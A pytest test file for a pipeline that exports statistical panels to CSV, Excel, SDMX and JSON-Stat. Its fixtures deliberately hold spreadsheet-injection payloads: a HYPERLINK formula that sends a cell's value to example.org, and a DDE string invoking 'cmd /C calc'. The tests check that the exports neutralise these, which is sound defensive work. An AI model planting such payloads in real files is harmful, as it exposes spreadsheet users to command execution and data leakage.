"""What stands in the exports of a publication whose documents are hostile."""

from __future__ import annotations

import csv
import json
import os
import re
import shutil
import subprocess
from collections.abc import Callable, Iterator
from datetime import datetime
from pathlib import Path
from typing import Any

import duckdb
import openpyxl
import pandas as pd
import pytest
from built_warehouse import BuiltWarehouse
from frictionless import system, validate
from marked_text import Document
from publisher import Publisher
from pyjstat import pyjstat
from pysdmx.io import get_datasets, read_sdmx

from orchestration.publication.exports import look
from orchestration.publication.exports.formula_safety import restore
from orchestration.publication.exports.writing import write_exports
from orchestration.settings import REPOSITORY

PERSONS = "indicator_id=dibao_persons"
FORMULA = '=HYPERLINK("http://example.org/"&A1,"点此")'
TITLE = "@SUM(1+9)*cmd|' /C calc'!A0"
HOSTILE = f"""开头。{FORMULA}低保对象[60000人 {PERSONS}]。
-2+3;=1+1城市[500人 {PERSONS} residence=urban]。
+44养老床位[20000.5张 indicator_id=elderly_care_beds]]>&lt;</t><f>1+1</f>_x0041_\x0b。
\t=1登记[9000对 indicator_id=marriage_registrations period_start=2020-01-01 period_end=2020-06-30]。
公办床位[700张 indicator_id=elderly_care_beds category=public]。
"""
BEFORE = f"年末低保对象[50000人 {PERSONS}]。"
HEFEI = f"年末低保对象[40000人 {PERSONS}]。"
N_FILES = 12
RUNS = ("=", "+", "-", "@", "\t", "\r", "\n")


@pytest.fixture(scope="module")
def published(new_warehouse: Callable[[], BuiltWarehouse]) -> Publisher:
    warehouse = new_warehouse()
    warehouse.land(
        Document("hostile.txt", HOSTILE, title=TITLE),
        Document(
            "before.txt",
            BEFORE,
            report_start=datetime(2019, 1, 1).date(),
            report_end=datetime(2019, 12, 31).date(),
        ),
        Document("hefei.txt", HEFEI, "340100", "合肥市"),
    )
    warehouse.build()
    publisher = Publisher(warehouse)
    publisher.publish(datetime(2024, 1, 1))
    return publisher


@pytest.fixture(scope="module")
def exports(published: Publisher) -> Path:
    return published.file.resolve().parent / "exports"


def sheet_rows(path: Path, name: str) -> Iterator[dict[str, Any]]:
    heads, *rows = openpyxl.load_workbook(path)[name].iter_rows(values_only=True)
    return (dict(zip(heads, row, strict=True)) for row in rows)


def test_no_cell_of_any_csv_runs_and_each_gives_its_original_back(published: Publisher) -> None:
    folder = published.file.resolve().parent
    n_hostile = 0
    for path in sorted(folder.glob("*.csv")):
        described = published.rows(f"describe marts.{path.stem}")
        texts = [name for name, kind, *_ in described if kind == "VARCHAR"]
        if not texts:
            continue
        columns = ", ".join(f'"{name}"' for name in texts)
        with path.open(encoding="utf-8", newline="") as file:
            rows = [[row[name] for name in texts] for row in csv.DictReader(file)]
        n_hostile += sum(cell.startswith("'") for row in rows for cell in row)
        assert not [cell for row in rows for cell in row if cell.startswith(RUNS)], path.name
        originals = published.rows(f"select {columns} from marts.{path.stem}")
        assert [[restore(cell) for cell in row] for row in rows] == [
            ["" if cell is None else cell for cell in row] for row in originals
        ], path.name
    assert n_hostile > 10, "the documents are hostile"


def test_the_documented_select_gives_the_originals_back(published: Publisher) -> None:
    documented = (REPOSITORY / "docs" / "exports.md").read_text(encoding="utf-8")
    (sql,) = re.findall(r"```sql\n(.*?)```", documented, re.DOTALL)
    table = published.file.resolve().parent / "fct_observation.csv"
    with duckdb.connect() as connection:
        found = connection.execute(sql.replace("fct_observation.csv", str(table))).fetchall()
    assert sorted(found) == sorted(published.rows("select sentence from marts.fct_observation"))


@pytest.mark.load
@pytest.mark.skipif(not shutil.which("soffice"), reason="no LibreOffice here")
@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_a_spreadsheet_finds_no_formula_however_it_parts_the_cells(
    published: Publisher, tmp_path: Path, separator: str
) -> None:
    options = f"CSV:{ord(separator)},34,76,1,,0,false,true,false,false,false,-1,true"
    shutil.copy(published.file.resolve().parent / "fct_observation.csv", tmp_path / "facts.csv")
    subprocess.run(
        ["soffice", "--headless", "--convert-to", "xlsx", f"--infilter={options}", "facts.csv"],
        cwd=tmp_path,
        env={"HOME": str(tmp_path), "PATH": os.environ["PATH"]},
        capture_output=True,
        check=True,
    )
    (path,) = tmp_path.glob("*.xlsx")
    cells = [cell for row in openpyxl.load_workbook(path).worksheets[0] for cell in row]
    assert not [cell.value for cell in cells if cell.data_type == "f"]


def test_numbers_stay_numbers_where_they_begin_with_a_sign(exports: Path) -> None:
    rows = pd.read_csv(exports / "panel.csv", dtype={"地区代码": str})
    assert rows["数值"].dtype.kind == "f"
    assert set(rows["地区代码"]) == {"341500", "340100"}
    assert rows["原句"].str.startswith("'=HYPERLINK").any()


def test_the_csv_for_spreadsheets_has_a_mark_and_the_one_for_programs_has_none(
    exports: Path,
) -> None:
    assert (exports / "panel.csv").read_bytes().startswith(b"\xef\xbb\xbf" + "地区代码,".encode())
    plain = (exports.parent / "fct_city_year_indicator.csv").read_bytes()
    assert plain.startswith(b"city_code,")
    with duckdb.connect() as connection:
        columns = connection.sql(f"from '{exports / 'panel.csv'}'").columns
    assert columns[0] == "地区代码", "a program that knows the mark does not see it"


def test_a_workbook_holds_numbers_dates_and_codes_as_such(exports: Path) -> None:
    (row,) = [
        row for row in sheet_rows(exports / "xlsx/elderly_care.xlsx", "数据") if not row["分类"]
    ]
    assert (row["地区代码"], row["年份"], row["数值"]) == ("341500", 2020, 20000.5)
    assert row["期间止"] == datetime(2020, 12, 31)
    assert (row["城乡"], row["级别"], row["单位"]) == ("合计", "地级", "张(床位)")
    book = openpyxl.load_workbook(exports / "xlsx/elderly_care.xlsx")
    assert book.sheetnames == ["数据", "指标", "来源", "说明"]
    assert book["数据"].freeze_panes == "C2"
    assert book["数据"].auto_filter.ref == "A1:Y3"
    assert book["数据"]["I2"].number_format.startswith("#,##0")
    assert "第 1 次发布（2024-01-01）" in str([cell.value for cell in book["说明"]["B"]])


def test_no_cell_of_any_workbook_is_a_formula_or_a_link(exports: Path) -> None:
    paths = sorted(exports.rglob("*.xlsx"))
    assert len(paths) == 5
    for path in paths:
        for sheet in openpyxl.load_workbook(path):
            cells = [cell for row in sheet.iter_rows() for cell in row]
            assert {cell.data_type for cell in cells} <= {"s", "n", "d"}
            assert not [cell for cell in cells if cell.hyperlink]
            for cell in cells:
                if cell.data_type == "s" and str(cell.value).startswith(RUNS):
                    assert cell.quotePrefix, f"{cell.value} would run once it is typed in again"


def test_a_workbook_gives_the_original_text_small_or_large(
    published: Publisher, exports: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (sentence,) = published.rows(
        "select sentence from marts.panel_labelled where domain = 'elderly_care' and category = ''"
    )[0]
    assert "\x0b" in sentence
    monkeypatch.setattr(look, "LARGE", 0)
    with duckdb.connect(str(published.file), read_only=True) as connection:
        write_exports(connection, tmp_path, None)
    for folder in (exports, tmp_path):
        rows = sheet_rows(folder / "xlsx/elderly_care.xlsx", "数据")
        # Written as Excel writes what XML can't hold; openpyxl does not undo it everywhere.
        told = [row["原句"].replace("_x005F_", "_") for row in rows]
        assert sentence.replace("\x0b", "_x000B_") in told
        titles = [row["文件标题"] for row in sheet_rows(folder / "xlsx/elderly_care.xlsx", "来源")]
        assert titles == [TITLE]


def test_the_official_layout_has_a_sheet_a_year(exports: Path) -> None:
    book = openpyxl.load_workbook(exports / "official/341500_Lu_an.xlsx")
    assert book.sheetnames == ["2020年", "2019年"]
    rows = list(book["2020年"].iter_rows(min_row=3, values_only=True))
    assert rows[0] == ("指标", "单位", "数量", "上年", "同比", "期间", "说明")
    persons = next(row for row in rows if row[0] == "最低生活保障人数")
    assert persons[:5] == ("最低生活保障人数", "人", 60000, 50000, 20)
    half = next(row for row in rows if row[0] == "结婚登记对数")
    assert half[5] == "2020-01-01 至 2020-06-30"


def test_the_sdmx_message_is_valid_and_its_data_follow_it(
    published: Publisher, exports: Path
) -> None:
    message = read_sdmx(exports / "sdmx/structure.xml", validate=True)
    lists = {item.id: {code.id for code in item} for item in message.get_codelists()}
    (structure,) = message.get_data_structure_definitions()
    (data,) = get_datasets(exports / "sdmx/data.csv", exports / "sdmx/structure.xml")
    frame = data.data
    assert set(frame.columns) == {component.id for component in structure.components}
    for component in structure.components:
        if component.enumeration is not None:
            assert set(frame[component.id]) <= lists[component.enumeration.id], component.id
    assert not frame.duplicated([it.id for it in structure.components.dimensions]).any()
    assert sorted(frame["OBS_VALUE"]) == [
        float(value)
        for (value,) in published.rows("select value from marts.fct_city_year_indicator order by 1")
    ]
    status = dict(zip(frame["INDICATOR"], frame["OBS_STATUS"], strict=True))
    assert (status["marriage_registrations"], status["elderly_care_beds"]) == ("D", "A")


def test_the_json_stat_cubes_hold_the_panel(published: Publisher, exports: Path) -> None:
    found = []
    for path in (exports / "json-stat").iterdir():
        read = pyjstat.Dataset.read(path.read_text(encoding="utf-8")).write("dataframe")
        found += list(read["value"].dropna())
    panel = published.rows("select value from marts.fct_city_year_indicator")
    assert sorted(found) == sorted(float(value) for (value,) in panel)
    cube = json.loads((exports / "json-stat/marriage_funeral.json").read_text(encoding="utf-8"))
    assert list(cube["status"].values()) == ["D"]
    units = cube["dimension"]["indicator_id"]["category"]["unit"]
    assert units == {"marriage_registrations": {"label": "对 couples"}}


def test_the_data_package_is_valid_and_its_keys_hold(published: Publisher, tmp_path: Path) -> None:
    folder = tmp_path / "copy"
    shutil.copytree(published.file.resolve().parent, folder)
    package = json.loads((folder / "datapackage.json").read_text(encoding="utf-8"))
    assert package["version"] == "1"
    assert package["licenses"]
    assert package["sources"]
    with system.use_context(trusted=True):
        report = validate(str(folder / "datapackage.json"))
        assert report.valid, report.flatten(["name", "type", "message"])[:5]
        cities = folder / "dim_city.csv"
        kept = [
            line
            for line in cities.read_text(encoding="utf-8").splitlines()
            if not line.startswith("341500,")
        ]
        cities.write_text("\n".join(kept) + "\n", encoding="utf-8")
        broken = validate(str(folder / "datapackage.json"))
    assert "foreign-key" in {kind for (kind,) in broken.flatten(["type"])}


def test_what_did_not_change_is_linked_and_the_rest_is_written(
    published: Publisher, tmp_path: Path
) -> None:
    with duckdb.connect(str(published.file), read_only=True) as connection:
        first = write_exports(connection, tmp_path / "1", None)
        assert write_exports(connection, tmp_path / "2", tmp_path / "1") == []
    files = {path.relative_to(tmp_path / "1") for path in first}
    assert len(files) == N_FILES
    assert all((tmp_path / "1" / it).samefile(tmp_path / "2" / it) for it in files)

    changed = tmp_path / "changed.duckdb"
    shutil.copy(published.file, changed)
    with duckdb.connect(str(changed)) as connection:
        for table in ("fct_city_year_indicator", "panel_labelled"):
            connection.execute(
                f"update marts.{table} set value = value + 1 "
                "where indicator_id = 'elderly_care_beds' and category = ''"
            )
        written = write_exports(connection, tmp_path / "3", tmp_path / "2")
    assert [str(path.relative_to(tmp_path / "3")) for path in written] == [
        "json-stat/elderly_care.json",
        "official/341500_Lu_an.xlsx",
        "panel.csv",
        "sdmx/data.csv",
        "xlsx/elderly_care.xlsx",
    ]
    (row,) = [
        row for row in sheet_rows(tmp_path / "2/xlsx/elderly_care.xlsx", "数据") if not row["分类"]
    ]
    assert row["数值"] == 20000.5, "the version before is as it was"


def test_the_same_content_gives_the_same_bytes(published: Publisher, tmp_path: Path) -> None:
    with duckdb.connect(str(published.file), read_only=True) as connection:
        for path in write_exports(connection, tmp_path / "1", None):
            again = published.file.resolve().parent / "exports" / path.relative_to(tmp_path / "1")
            assert path.read_bytes() == again.read_bytes(), path.name
    (tmp_path / "1" / "exports.json").write_text("[]")
    with duckdb.connect(str(published.file), read_only=True) as connection:
        assert len(write_exports(connection, tmp_path / "2", tmp_path / "1")) == N_FILES


def test_what_is_gone_from_the_panel_is_gone_from_the_exports(
    published: Publisher, tmp_path: Path
) -> None:
    emptied = tmp_path / "emptied.duckdb"
    shutil.copy(published.file, emptied)
    with duckdb.connect(str(emptied)) as connection:
        for table in ("fct_city_year_indicator", "panel_labelled"):
            connection.execute(f"delete from marts.{table} where city_code <> '340100'")
        write_exports(connection, tmp_path / "1", published.file.resolve().parent / "exports")
        names = {path.name for path in (tmp_path / "1").rglob("*.xlsx")}
        assert names == {"social_assistance.xlsx", "340100_Hefei.xlsx"}
        for table in ("fct_city_year_indicator", "panel_labelled"):
            connection.execute(f"delete from marts.{table}")
        write_exports(connection, tmp_path / "2", None)
    assert not list((tmp_path / "2").rglob("*.xlsx")), "an empty panel has no workbook"
